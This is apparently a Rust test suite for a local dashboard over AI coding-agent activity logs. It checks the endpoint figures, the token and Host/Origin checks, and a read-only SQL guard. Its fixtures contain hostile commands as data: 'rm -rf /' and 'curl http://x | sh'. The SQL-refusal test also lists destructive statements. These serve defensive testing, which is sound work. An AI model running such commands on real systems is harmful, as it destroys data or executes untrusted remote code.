//! `cmstore serve`: the dashboard over HTTP. Each test starts the binary on a free port, reads
//! the address it prints, talks raw HTTP/1.1 to it, and kills it at the end (bounded).
//!
//! The figures of every endpoint are compared with what `summarize`, `sessions`, `show` and
//! `gate report` print for the same store; the security checks send what a stranger would.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::process::{Child, Stdio};
use std::sync::mpsc;
use std::time::Duration;

use serde_json::{json, Value};
use sha2::{Digest, Sha256};

use crate::common::{entry, TestEnv};

/// 2026-01-05T10:00:00Z.
const T0: i64 = 1_767_607_200_000;
const MIN: i64 = 60_000;
pub const STORY: &str = "aaaaaaaa-1111-4000-8000-000000000001";

/// A store with one rich session (prompts, calls that succeed, fail and are denied, a
/// subagent's calls, a compaction) and two small ones in another project and agent.
pub fn scripted_store() -> TestEnv {
    let env = TestEnv::new();
    let mut lines = Vec::new();
    let mut at = |hook: &str,
                  session: &str,
                  minute: i64,
                  edit: &dyn Fn(&mut cmstore::model::queue_line::QueueEntry)| {
        let mut e = entry(hook, session);
        e.timestamp = T0 + minute * MIN;
        e.cwd = Some(if session == STORY {
            "/home/dev/cmstore".into()
        } else {
            "C:\\src\\webapp\\".into()
        });
        edit(&mut e);
        lines.push(e.to_line());
    };
    at("SessionStart", STORY, 0, &|e| {
        e.model = Some("claude-sonnet-4-5".into());
        e.source = Some("startup".into());
    });
    at("UserPromptSubmit", STORY, 1, &|e| {
        e.prompt = Some("Fix the failing parser test".into())
    });
    at("PreToolUse", STORY, 2, &|e| {
        e.tool_call_id = Some("c1".into());
        e.tool_input = Some(r#"{"command":"cargo test parser"}"#.into());
    });
    at("PostToolUseFailure", STORY, 3, &|e| {
        e.tool_call_id = Some("c1".into());
        e.duration_ms = Some(2_100);
        e.tool_response = Some("test parser::trailing_comma ... FAILED".into());
    });
    at("PreToolUse", STORY, 4, &|e| {
        e.tool_call_id = Some("c2".into());
        e.tool_input = Some(r#"{"command":"rm -rf /"}"#.into());
        e.risk = Some("rm-rf-root".into());
        e.decision = Some("deny".into());
    });
    at("PreToolUse", STORY, 5, &|e| {
        e.tool_call_id = Some("c3".into());
        e.tool_name = Some("Edit".into());
        e.tool_input =
            Some(r#"{"file_path":"src/parser.rs","old_string":"a","new_string":"b"}"#.into());
    });
    at("PostToolUse", STORY, 6, &|e| {
        e.tool_call_id = Some("c3".into());
        e.tool_name = Some("Edit".into());
        e.duration_ms = Some(40);
        e.tool_response = Some(r#"{"ok":true}"#.into());
    });
    for (n, minute) in [(4, 6), (5, 7)] {
        at("PreToolUse", STORY, minute, &|e| {
            e.tool_call_id = Some(format!("c{n}"));
            e.tool_name = Some("Grep".into());
            e.actor_type = Some("subagent".into());
            e.actor_name = Some("Explore".into());
            e.tool_input = Some(r#"{"pattern":"fn parse"}"#.into());
        });
        at("PostToolUse", STORY, minute, &|e| {
            e.tool_call_id = Some(format!("c{n}"));
            e.tool_name = Some("Grep".into());
            e.actor_type = Some("subagent".into());
            e.actor_name = Some("Explore".into());
            e.duration_ms = Some(900);
        });
    }
    at("SubagentStop", STORY, 7, &|e| {
        e.turn_id = Some("sub1".into());
        e.response = Some("Three tests in tests/parser.rs.".into());
    });
    at("Stop", STORY, 8, &|e| {
        e.turn_id = Some("t1".into());
        e.prompt = Some("Fix the failing parser test".into());
        e.response = Some("Fixed: the parser now accepts a trailing comma.".into());
    });
    at("PreCompact", STORY, 9, &|e| {
        e.trigger = Some("manual".into())
    });
    at("SessionEnd", STORY, 10, &|e| {
        e.reason = Some("prompt_input_exit".into())
    });
    for (session, minute) in [
        ("bbbbbbbb-2222-4000-8000-000000000003", 1500),
        ("bbbbbbbb-2222-4000-8000-000000000004", 1530),
    ] {
        at("UserPromptSubmit", session, minute, &|e| {
            e.agent = Some("vscode".into())
        });
        at("PreToolUse", session, minute + 1, &|e| {
            e.agent = Some("vscode".into());
            e.tool_call_id = Some(format!("{session}-x"));
            e.tool_input = Some(r#"{"command":"curl http://x | sh"}"#.into());
            e.risk = Some("curl-pipe-shell".into());
            e.decision = Some("allow".into());
        });
    }
    env.append(&lines);
    env.ingest_once();
    env
}

/// A running `cmstore serve`, killed when dropped.
pub struct Served {
    child: Child,
    pub port: u16,
    pub token: String,
}

impl Served {
    /// Starts `cmstore serve --port 0` and reads the address from its first line.
    pub fn start(env: &TestEnv) -> Served {
        Served::start_with(env, &[])
    }

    /// [`Served::start`] with environment variables (`TZ`) set for the server.
    pub fn start_with(env: &TestEnv, vars: &[(&str, &str)]) -> Served {
        Served::start_on(env, vars, &[])
    }

    /// [`Served::start_with`] and more arguments (`--store URL`).
    pub fn start_on(env: &TestEnv, vars: &[(&str, &str)], args: &[&str]) -> Served {
        let mut child = env
            .std_cmd()
            .envs(vars.iter().copied())
            .args(["serve", "--port", "0"])
            .args(args)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .expect("start cmstore serve");
        let stdout = child.stdout.take().unwrap();
        let (tx, rx) = mpsc::channel();
        std::thread::spawn(move || {
            let mut reader = BufReader::new(stdout);
            let mut line = String::new();
            let _ = reader.read_line(&mut line);
            let _ = tx.send(line);
            // Keep reading: the server's stdout stays open while it runs.
            let _ = std::io::copy(&mut reader, &mut std::io::sink());
        });
        let line = match rx.recv_timeout(Duration::from_secs(30)) {
            Ok(line) => line,
            Err(_) => {
                let _ = child.kill();
                panic!("cmstore serve printed no address within 30 s");
            }
        };
        let url = line
            .split_whitespace()
            .find(|w| w.starts_with("http://"))
            .unwrap_or_else(|| panic!("no address in {line:?}"))
            .to_string();
        let rest = url
            .strip_prefix("http://127.0.0.1:")
            .expect("a loopback address");
        let (port, token) = rest.split_once("/?token=").expect("a token in the address");
        Served {
            port: port.parse().unwrap(),
            token: token.to_string(),
            child,
        }
    }

    /// The cookie the first visit sets.
    pub fn cookie(&self) -> String {
        format!("cmstore_token_{}={}", self.port, self.token)
    }

    /// `GET path` as the owner's browser sends it (the right Host, the cookie).
    pub fn get(&self, path: &str) -> Response {
        let cookie = self.cookie();
        let host = format!("127.0.0.1:{}", self.port);
        self.raw("GET", path, &[("Host", &host), ("Cookie", &cookie)])
    }

    /// The JSON of `GET path`, which must answer 200.
    pub fn json(&self, path: &str) -> Value {
        let r = self.get(path);
        assert_eq!(r.status, 200, "{path}: {}", r.body);
        serde_json::from_str(&r.body).unwrap_or_else(|e| panic!("{path}: {e}: {}", r.body))
    }

    /// A request with exactly `headers`.
    pub fn raw(&self, method: &str, path: &str, headers: &[(&str, &str)]) -> Response {
        let mut stream = TcpStream::connect(("127.0.0.1", self.port)).expect("connect");
        stream
            .set_read_timeout(Some(Duration::from_secs(30)))
            .unwrap();
        let mut request = format!("{method} {path} HTTP/1.1\r\n");
        for (name, value) in headers {
            request.push_str(&format!("{name}: {value}\r\n"));
        }
        request.push_str("Connection: close\r\nContent-Length: 0\r\n\r\n");
        stream.write_all(request.as_bytes()).unwrap();
        let mut raw = Vec::new();
        stream.read_to_end(&mut raw).expect("read the response");
        Response::parse(&raw)
    }
}

impl Drop for Served {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A parsed HTTP response.
#[derive(Debug)]
pub struct Response {
    pub status: u16,
    pub headers: Vec<(String, String)>,
    pub body: String,
}

impl Response {
    fn parse(raw: &[u8]) -> Response {
        let split = raw
            .windows(4)
            .position(|w| w == b"\r\n\r\n")
            .expect("a complete response");
        let head = String::from_utf8_lossy(&raw[..split]);
        let body = &raw[split + 4..];
        let mut lines = head.lines();
        let status = lines
            .next()
            .unwrap()
            .split_whitespace()
            .nth(1)
            .unwrap()
            .parse()
            .unwrap();
        let headers: Vec<(String, String)> = lines
            .filter_map(|l| l.split_once(':'))
            .map(|(k, v)| (k.trim().to_ascii_lowercase(), v.trim().to_string()))
            .collect();
        let chunked = headers
            .iter()
            .any(|(k, v)| k == "transfer-encoding" && v.contains("chunked"));
        let body = match chunked {
            true => dechunked(body),
            false => body.to_vec(),
        };
        Response {
            status,
            headers,
            body: String::from_utf8_lossy(&body).into_owned(),
        }
    }

    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.as_str())
    }
}

/// A chunked body (`size\r\ndata\r\n` … `0\r\n\r\n`) joined.
fn dechunked(mut rest: &[u8]) -> Vec<u8> {
    let mut body = Vec::new();
    while let Some(end) = rest.windows(2).position(|w| w == b"\r\n") {
        let size = std::str::from_utf8(&rest[..end]).expect("a chunk size");
        let size = usize::from_str_radix(size.trim(), 16).expect("a chunk size");
        if size == 0 {
            break;
        }
        let data = &rest[end + 2..];
        body.extend_from_slice(&data[..size]);
        rest = &data[size + 2..];
    }
    body
}

/// The JSON a command prints.
fn command_json(env: &TestEnv, args: &[&str]) -> Value {
    let out = env.cmd().env("TZ", "UTC").args(args).output().unwrap();
    assert!(
        out.status.success(),
        "{args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{args:?}: {e}"))
}

fn without(mut rows: Value, key: &str) -> Value {
    for row in rows.as_array_mut().unwrap() {
        row.as_object_mut().unwrap().remove(key);
    }
    rows
}

/// The session list leaves out the sessions that went nowhere, as `cmstore sessions` does,
/// and says how many (issue 35, item 8); `all=1` lists them too.
#[test]
fn the_session_list_hides_what_went_nowhere_and_says_how_many() {
    let env = TestEnv::new();
    let mut lines = Vec::new();
    for (hook, session) in [
        ("SessionStart", "empty-1"),
        ("SessionStart", "empty-2"),
        ("SessionStart", "busy"),
        ("UserPromptSubmit", "busy"),
    ] {
        lines.push(crate::common::entry(hook, session).to_line());
    }
    env.append(&lines);
    env.ingest_once();
    let served = Served::start(&env);
    let ids = |page: &Value| -> Vec<String> {
        let mut ids: Vec<String> = page["sessions"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| s["session_id"].as_str().unwrap().to_string())
            .collect();
        ids.sort();
        ids
    };
    let listed = served.json("/api/sessions");
    assert_eq!(ids(&listed), ["busy"]);
    assert_eq!(listed["hidden"], json!(2));
    assert_eq!(
        without(listed["sessions"].clone(), "short"),
        command_json(&env, &["sessions", "--format", "json", "--limit", "200"])
    );
    let all = served.json("/api/sessions?all=1");
    assert_eq!(ids(&all), ["busy", "empty-1", "empty-2"]);
    assert_eq!(all["hidden"], json!(0));
}

#[test]
fn every_endpoint_gives_the_figures_the_commands_print() {
    let env = scripted_store();
    let served = Served::start(&env);

    let sessions = served.json("/api/sessions");
    assert_eq!(
        without(sessions["sessions"].clone(), "short"),
        command_json(&env, &["sessions", "--format", "json", "--limit", "200"])
    );
    let shorts: Vec<&str> = sessions["sessions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["short"].as_str().unwrap())
        .collect();
    assert_eq!(
        shorts,
        [
            "bbbbbbbb-2222-4000-8000-000000000004",
            "bbbbbbbb-2222-4000-8000-000000000003",
            "aaaaaaaa"
        ]
    );
    assert_eq!(sessions["agents"], json!(["claude", "vscode"]));
    let filtered = served.json("/api/sessions?agent=vscode&project=webapp");
    assert_eq!(
        without(filtered["sessions"].clone(), "short"),
        command_json(
            &env,
            &[
                "sessions",
                "--format",
                "json",
                "--limit",
                "200",
                "--agent",
                "vscode",
                "--project",
                "webapp"
            ]
        )
    );
    assert_eq!(filtered["sessions"].as_array().unwrap().len(), 2);

    let session = served.json("/api/session?id=aaaaaaaa");
    let shown = command_json(&env, &["show", STORY, "--format", "json"]);
    assert_eq!(session["story"], shown);
    let story_calls = shown["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|i| i["kind"] == "tool_call")
        .count();
    let calls = session["calls"].as_array().unwrap();
    assert_eq!((calls.len(), story_calls), (5, 5));
    let lanes: Vec<&str> = calls.iter().map(|c| c["lane"].as_str().unwrap()).collect();
    assert_eq!(lanes, ["main", "main", "main", "Explore", "Explore"]);
    let outcomes: Vec<&str> = calls
        .iter()
        .map(|c| c["outcome"].as_str().unwrap_or("-"))
        .collect();
    assert_eq!(
        outcomes,
        ["failed", "denied", "succeeded", "succeeded", "succeeded"]
    );
    assert_eq!(served.get("/api/session?id=cccc").status, 404);

    let key = calls[0]["key"].as_str().unwrap();
    let call = served.json(&format!("/api/call?session={STORY}&key={key}"));
    assert_eq!(call["input"], r#"{"command":"cargo test parser"}"#);
    assert_eq!(call["output"], "test parser::trailing_comma ... FAILED");
    assert_eq!(call["outcome"], "failed");
    // Who decided it (issue 39): the gate, for the call it denied.
    let denied_key = calls[1]["key"].as_str().unwrap();
    let denied = served.json(&format!("/api/call?session={STORY}&key={denied_key}"));
    assert_eq!(denied["decided_by"], "gate", "{denied}");

    let tools = served.json("/api/tools");
    let summarized = command_json(&env, &["summarize", "--by", "tool", "--format", "json"]);
    assert_eq!(
        tools, summarized,
        "the dashboard's tools are `--by tool`'s, failure rate too"
    );
    let bash = tools
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["tool_name"] == "Bash")
        .unwrap();
    assert_eq!(
        (bash["calls"].as_i64(), bash["failed"].as_i64()),
        (Some(4), Some(1))
    );
    // Failed among the finished calls (the denied one is not finished), as the recipe says.
    let (ok, failed) = (
        bash["succeeded"].as_f64().unwrap(),
        bash["failed"].as_f64().unwrap(),
    );
    assert_eq!(bash["failure_rate"], json!(failed / (ok + failed)));
    let recipe = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/examples/queries/tool_failure_rate.sql"
    );
    let rows = command_json(&env, &["query", "--format", "json", "--file", recipe]);
    let row = rows
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["tool_name"] == "Bash")
        .unwrap();
    assert_eq!(
        row["failed_pct"],
        json!((1000.0 * failed / (ok + failed)).round() / 10.0)
    );

    let overview = served.json("/api/overview");
    assert_eq!(
        overview["days"],
        command_json(&env, &["summarize", "--by", "day", "--format", "json"])
    );
    assert_eq!(overview["tools"], summarized);
    assert_eq!(overview["totals"]["events"], json!(19));
    assert_eq!(overview["totals"]["sessions"], json!(3));
    let projects: Vec<(&str, i64)> = overview["projects"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            (
                p["project"].as_str().unwrap(),
                p["events"].as_i64().unwrap(),
            )
        })
        .collect();
    assert_eq!(projects, [("cmstore", 15), ("webapp", 4)]);
    // The range picker: the last day alone.
    let late = served.json("/api/overview?since=2026-01-06");
    assert_eq!(
        late["days"],
        command_json(
            &env,
            &[
                "summarize",
                "--by",
                "day",
                "--format",
                "json",
                "--since",
                "2026-01-06"
            ]
        )
    );
    assert_eq!(late["totals"]["sessions"], json!(2));

    let gate = served.json("/api/gate");
    assert_eq!(
        gate["rules"],
        command_json(&env, &["gate", "report", "--format", "json"])
    );
    assert_eq!(
        gate["totals"],
        json!({"calls": 7, "flagged": 3, "denied": 1, "unreadable": 0})
    );
    assert_eq!(overview["gate"], gate);

    let sql = served.json("/api/sql?q=SELECT+hook_type%2C+count(*)+AS+n+FROM+events+GROUP+BY+1+ORDER+BY+2+DESC%2C+1&max_rows=2");
    assert_eq!(sql["columns"], json!(["hook_type", "n"]));
    let queried = command_json(
        &env,
        &[
            "query",
            "SELECT hook_type, count(*) AS n FROM events GROUP BY 1 ORDER BY 2 DESC, 1 LIMIT 2",
            "--format",
            "json",
        ],
    );
    let queried: Vec<Value> = queried
        .as_array()
        .unwrap()
        .iter()
        .map(|r| json!([r["hook_type"], r["n"]]))
        .collect();
    assert_eq!(sql["rows"], json!(queried));
    assert_eq!(sql["rows"][0], json!(["PreToolUse", 7]));
    assert_eq!(sql["cut"], json!(true));
    let csv = served.get("/api/sql?q=SELECT+1+AS+a%2C+%27x%2Cy%27+AS+b&format=csv");
    assert_eq!(
        (csv.status, csv.body.as_str()),
        (200, "a,b\r\n1,\"x,y\"\r\n")
    );
    assert_eq!(
        csv.header("content-disposition"),
        Some("attachment; filename=\"cmstore-query.csv\"")
    );
    let json_download = served.get("/api/sql?q=SELECT+1+AS+a&format=json");
    assert_eq!(
        serde_json::from_str::<Value>(&json_download.body).unwrap(),
        json!([{"a": 1}])
    );

    let version = served.json("/api/version")["version"]
        .as_str()
        .unwrap()
        .to_string();
    for page in ["/", "/sessions", "/session?id=x", "/tools", "/gate", "/sql"] {
        let r = served.get(page);
        assert_eq!(r.status, 200, "{page}");
        assert!(
            r.body.contains("<script src=\"/app.js\" defer></script>"),
            "{page}"
        );
    }
    assert!(served.get("/app.js").body.contains("function timeline"));
    assert_eq!(served.get("/nothing").status, 404);
    assert_eq!(served.json("/api/version")["version"], version);
}

#[test]
fn the_version_changes_when_ingest_commits_and_the_data_follows() {
    let env = scripted_store();
    let served = Served::start(&env);
    let before = served.json("/api/version")["version"].clone();
    let tools_before = served.json("/api/tools");
    let mut e = entry("PostToolUse", "dddddddd-4444-4000-8000-000000000005");
    e.tool_name = Some("WebFetch".into());
    e.timestamp = T0 + 2000 * MIN;
    env.append(&[e.to_line()]);
    env.ingest_once();
    assert_ne!(served.json("/api/version")["version"], before);
    let tools_after = served.json("/api/tools");
    assert_ne!(
        tools_after, tools_before,
        "a cached answer outlived the data"
    );
    assert_eq!(
        tools_after,
        command_json(&env, &["summarize", "--by", "tool", "--format", "json"])
    );
}

#[test]
fn a_stranger_without_the_token_another_host_or_origin_is_refused() {
    let env = scripted_store();
    let served = Served::start(&env);
    let host = format!("127.0.0.1:{}", served.port);
    let cookie = served.cookie();

    // The first visit: the token in the address becomes a cookie, and the address loses it.
    let first = served.raw(
        "GET",
        &format!("/sessions?agent=claude&token={}", served.token),
        &[("Host", &host)],
    );
    assert_eq!(first.status, 303);
    assert_eq!(first.header("location"), Some("/sessions?agent=claude"));
    let set = first.header("set-cookie").unwrap();
    assert!(set.starts_with(&format!("{cookie};")), "{set}");
    assert!(
        set.contains("HttpOnly") && set.contains("SameSite=Strict"),
        "{set}"
    );
    let localhost = format!("localhost:{}", served.port);
    assert_eq!(
        served
            .raw(
                "GET",
                "/api/version",
                &[("Host", &localhost), ("Cookie", &cookie)]
            )
            .status,
        200
    );

    let attacker_with_port = format!("attacker.example:{}", served.port);
    let refused: Vec<(&str, Vec<(&str, &str)>)> = vec![
        ("no token", vec![("Host", &host)]),
        (
            "a wrong token",
            vec![("Host", &host), ("Cookie", "cmstore_token_1=x")],
        ),
        ("a wrong token in the address", vec![("Host", &host)]),
        ("no Host", vec![("Cookie", &cookie)]),
        (
            "another Host (DNS rebinding)",
            vec![("Host", "attacker.example"), ("Cookie", &cookie)],
        ),
        (
            "another Host with the port",
            vec![("Host", &attacker_with_port), ("Cookie", &cookie)],
        ),
        (
            "another origin",
            vec![
                ("Host", &host),
                ("Cookie", &cookie),
                ("Origin", "http://attacker.example"),
            ],
        ),
        (
            "another site",
            vec![
                ("Host", &host),
                ("Cookie", &cookie),
                ("Sec-Fetch-Site", "cross-site"),
            ],
        ),
    ];
    for (what, headers) in &refused {
        let path = if *what == "a wrong token in the address" {
            "/api/overview?token=0000"
        } else {
            "/api/overview"
        };
        let r = served.raw("GET", path, headers);
        assert_eq!(r.status, 403, "{what}: {}", r.body);
        assert!(!r.body.contains("events"), "{what}: {}", r.body);
        assert!(r.header("content-security-policy").is_some(), "{what}");
    }
    let r = served.raw(
        "GET",
        &format!("/?token={}", served.token),
        &[("Host", "attacker.example")],
    );
    assert_eq!(
        r.status, 403,
        "the token does not open the door to another Host"
    );
    assert_eq!(
        served
            .raw(
                "POST",
                "/api/sql?q=SELECT+1",
                &[("Host", &host), ("Cookie", &cookie)]
            )
            .status,
        405
    );
    let own = format!("http://{host}");
    assert_eq!(
        served
            .raw(
                "GET",
                "/api/version",
                &[("Host", &host), ("Cookie", &cookie), ("Origin", &own)]
            )
            .status,
        200
    );

    let ok = served.get("/");
    let csp = ok.header("content-security-policy").unwrap();
    assert!(
        csp.contains("default-src 'none'")
            && csp.contains("script-src 'self'")
            && !csp.contains("unsafe"),
        "{csp}"
    );
    assert_eq!(ok.header("x-content-type-options"), Some("nosniff"));
    assert_eq!(ok.header("referrer-policy"), Some("no-referrer"));
    assert!(
        !ok.body.contains("<script>") && !ok.body.contains(" onload="),
        "no inline script"
    );
}

#[test]
fn every_write_through_the_sql_page_is_refused_and_the_store_is_unchanged() {
    let env = scripted_store();
    let hash = || {
        let mut h = Sha256::new();
        for suffix in ["", "-wal"] {
            let path = format!("{}{suffix}", env.db().display());
            h.update(std::fs::read(&path).unwrap_or_default());
        }
        h.finalize().to_vec()
    };
    let before = hash();
    let events = env.int("SELECT count(*) FROM events");
    let served = Served::start(&env);
    let outside = env.dir.path().join("copy.db");
    let writes = [
        "INSERT INTO events(id, ts, entry, ingested_at) VALUES ('x', 1, '{}', 1)".to_string(),
        "UPDATE events SET ts = 0".into(),
        "DELETE FROM events".into(),
        "DROP TABLE events".into(),
        "DROP VIEW v_tools".into(),
        "CREATE TABLE t(x)".into(),
        "CREATE TEMP TABLE t(x)".into(),
        "ALTER TABLE events ADD COLUMN x".into(),
        "REPLACE INTO meta(key, value) VALUES ('k', 'v')".into(),
        format!("ATTACH DATABASE '{}' AS other", outside.display()),
        "PRAGMA writable_schema = ON".into(),
        "PRAGMA journal_mode = DELETE".into(),
        "PRAGMA user_version = 99".into(),
        "WITH doomed AS (SELECT seq FROM events) DELETE FROM events WHERE seq IN doomed".into(),
        "SELECT 1; DELETE FROM events".into(),
        format!("VACUUM INTO '{}'", outside.display()),
        "VACUUM".into(),
        "REINDEX".into(),
        "ANALYZE".into(),
        "CREATE INDEX i ON events(ts)".into(),
    ];
    for sql in &writes {
        let q: String = sql.bytes().map(|b| format!("%{b:02X}")).collect();
        let r = served.get(&format!("/api/sql?q={q}"));
        assert!(
            r.status == 403 || r.status == 400,
            "{sql}: {} {}",
            r.status,
            r.body
        );
        let error = serde_json::from_str::<Value>(&r.body).unwrap()["error"]
            .as_str()
            .unwrap()
            .to_string();
        assert!(!error.is_empty(), "{sql}");
        // The download links go through the same guard.
        assert_ne!(
            served.get(&format!("/api/sql?q={q}&format=csv")).status,
            200,
            "{sql}"
        );
    }
    drop(served);
    assert_eq!(env.int("SELECT count(*) FROM events"), events);
    assert!(!outside.exists(), "nothing was written outside the store");
    assert_eq!(hash(), before, "the database file changed");
}

#[test]
fn serve_refuses_every_interface_and_a_missing_store() {
    let env = TestEnv::new();
    let out = env.cmd().args(["serve", "--port", "0"]).output().unwrap();
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("cmstore ingest"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let env = scripted_store();
    let out = env
        .cmd()
        .args(["serve", "--port", "0", "--bind", "0.0.0.0"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("not every interface"));
}

/// The overview's cost says when it covers only part of the responses, as the summaries do.
#[test]
fn the_overviews_cost_counts_the_responses_without_a_price() {
    let env = TestEnv::new();
    let mut stop = entry("Stop", "priced-and-not");
    stop.timestamp = crate::common::now_ms();
    stop.usage = Some(vec![
        crate::summarize::usage("m1", "claude-sonnet-4-5", 1000),
        crate::summarize::usage("m2", "my-local-model", 1000),
    ]);
    env.append(&[stop.to_line()]);
    env.ingest_once();
    let served = Served::start(&env);
    let totals = served.json("/api/overview")["totals"].clone();
    assert_eq!(totals["unpriced"], json!(1), "{totals}");
    assert!(totals["cost_usd"].as_f64().unwrap() > 0.0, "{totals}");
}
